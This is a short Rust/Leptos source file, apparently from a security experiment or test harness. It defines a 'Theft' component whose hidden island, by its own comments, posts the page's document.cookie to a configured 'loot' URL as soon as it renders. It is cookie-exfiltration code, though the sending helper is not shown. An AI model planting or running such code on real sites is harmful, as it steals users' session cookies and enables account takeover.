//! The script of the experiment that steals: it reads what it can and hands it in.

use leptos::{context::Provider, prelude::*};

use super::browser;
use crate::live::given::{self, given};

given! {
    /// Where the loot goes.
    pub struct Loot {
        /// The URL that takes it.
        pub url: String,
    }
}

/// Posts `document.cookie` to this URL, once, as soon as it is in the page.
#[component]
pub fn Theft(
    /// The URL that takes it.
    url: &'static str,
) -> AnyView {
    view! { <Provider value=Loot { url: url.to_owned() }><TheftIsland/></Provider> }.into_any()
}

/// See [`Theft`].
#[island]
pub fn TheftIsland() -> impl IntoView {
    let given = given::here::<Loot>("TheftIsland");
    Effect::new(move |_| browser::hand_in(&given.with_untracked(|loot| loot.url.clone())));
    view! { <span hidden {..given::attribute(given)}></span> }
}
